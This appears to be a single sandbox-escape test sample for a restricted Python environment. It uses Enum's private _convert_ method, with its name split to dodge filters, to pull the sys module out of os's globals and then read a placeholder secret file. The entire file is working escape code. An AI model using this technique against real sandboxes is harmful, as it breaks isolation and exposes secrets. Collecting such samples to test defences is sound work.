# attack: Enum's private _convert_ makes members out of the globals of any module that is loaded, by its name
# family: attribute
import enum
class Kind(enum.Enum):
    pass
make = getattr(Kind, "_convert" + "_")
found = make("Found", "os", filter=lambda name: name == "sys")
sys = found.sys.value
print("REACHED", sys)
print(sys.modules["io"].open("$SECRET_FILE").read())
